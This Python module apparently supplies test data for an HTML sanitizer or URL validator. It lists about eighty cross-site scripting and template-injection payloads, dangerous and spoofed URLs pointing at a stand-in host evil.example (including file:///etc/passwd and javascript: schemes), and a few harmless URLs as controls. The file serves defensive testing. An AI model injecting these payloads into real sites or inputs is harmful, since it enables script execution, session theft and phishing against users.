"""Hostile texts and addresses: what a page could be made to run, leave or show."""

from __future__ import annotations

_call = "alert(document.domain)"

MARKUP = (
    f"<script>{_call}</script>", f"<ScRiPt>{_call}</sCrIpT>", f"<script\x0c>{_call}</script>", "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_call}>", f"<img src=x onerror=\"{_call}\">", f"<img/src=x/onerror={_call}>", f"<img src=`x` onerror={_call}>",
    f"<svg onload={_call}>", f"<svg/onload={_call}>", f"<svg><script>{_call}</script></svg>", f"<svg><animate onbegin={_call} attributeName=x>",
    f"<svg><a xlink:href=\"javascript:{_call}\"><text x=20 y=20>点</text></a></svg>", f"<math><mi xlink:href=\"javascript:{_call}\">x</mi></math>",
    f"<body onload={_call}>", f"<iframe src=javascript:{_call}>", f"<iframe srcdoc=\"<script>{_call}</script>\">", f"<object data=javascript:{_call}>",
    f"<embed src=javascript:{_call}>", f"<a href=javascript:{_call}>点我</a>", f"<a href='java\tscript:{_call}'>点我</a>",
    f"<form action=javascript:{_call}><button>点</button></form>", f"<button formaction=javascript:{_call}>点</button>",
    f"<input autofocus onfocus={_call}>", f"<select autofocus onfocus={_call}>", f"<textarea autofocus onfocus={_call}>",
    f"<details open ontoggle={_call}>", f"<video><source onerror={_call}>", f"<audio src=x onerror={_call}>", f"<marquee onstart={_call}>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{_call}\">", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>", f"\"><script>{_call}</script>", f"'><script>{_call}</script>", f"\" onmouseover={_call} x=\"",
    f"' onmouseover={_call} x='", f"` onmouseover={_call} x=`", f"\" autofocus onfocus=\"{_call}", f"</title><script>{_call}</script>",
    f"</textarea><script>{_call}</script>", f"</style><script>{_call}</script>", f"</mark><script>{_call}</script>", f"--><script>{_call}</script>",
    f"]]><script>{_call}</script>", f"<![CDATA[<script>{_call}</script>]]>", f"<!--[if gte IE 4]><script>{_call}</script><![endif]-->",
    f"&lt;script&gt;{_call}&lt;/script&gt;", f"&#60;script&#62;{_call}&#60;/script&#62;", f"\\u003cscript\\u003e{_call}\\u003c/script\\u003e",
    f"%3Cscript%3E{_call}%3C/script%3E", f"＜script＞{_call}＜/script＞", f"‹script›{_call}‹/script›", f"<scr<script>ipt>{_call}</scr</script>ipt>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_call}>\">", f"<template><script>{_call}</script></template>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={_call}&gt;\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={_call}>\">", f"<xmp><p title=\"</xmp><svg/onload={_call}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_call}>", f"<x onclick={_call}>点", f"<a\u2028href=javascript:{_call}>点",
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('x')()}}",
    f"\u202e<script>{_call}</script>", f"\u2066<script>{_call}</script>\u2069", "标题\u202egpj.exe", "标\x00题<b>粗</b>", "标\r\nSet-Cookie: a=b\r\n题",
    f"\ufeff<script>{_call}</script>", f"<script>{_call}//", f"<<script>{_call}//<</script>", f"<img src=x:x onerror={_call}//", f"<svg onload={_call}//",
)

ADDRESSES = (
    f"javascript:{_call}", f"JaVaScRiPt:{_call}", f" javascript:{_call}", f"\tjavascript:{_call}", f"java\nscript:{_call}", f"java\tscript:{_call}",
    f"java\x00script:{_call}", f"\x01javascript:{_call}", f"javascript&colon;{_call}", f"javascript&#58;{_call}", f"javascript%3A{_call}",
    f"javascript://x.example/%0a{_call}", f"vbscript:{_call}", "data:text/html,<script>1</script>", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd",
    "blob:https://evil.example/1", "about:blank", "//evil.example/x", "/\\evil.example", "\\\\evil.example\\x", "https:\\\\evil.example", "http:/\\evil.example",
    "https:evil.example", "http:///evil.example", "https://", "http://user:pass@evil.example/", "https://portal.example@evil.example/",
    "https://portal.example\\@evil.example/", "https://evil.example/\" onclick=alert(1) x=\"", "https://evil.example/'><script>1</script>",
    "https://evil.example/<script>", "https://evil.example/ x", "https://[::1", "https://evil.example:99999/", "https://evil.example:x/",
    "https://evil.example/\u202egpj", "https://evil.example/\u200b", "ftp://evil.example/", "mailto:a@evil.example", "tel:123", "view-source:https://x.example",
    "intent://x#Intent;end", "jar:https://x.example!/", "ht\ttps://evil.example", "https://evil.example/\r\nLocation: x", "x" * 3000, "http://" + "a" * 3000,
)

HARMLESS = (
    "https://portal.example/notices/1", "http://portal.example:8080/a?b=c&d=e#f", "HTTPS://PORTAL.example/", "https://某平台.example/公告/1?编号=甲",
    "http://198.51.100.7/x", "https://portal.example/a;b=c,d(e)!*~",
)
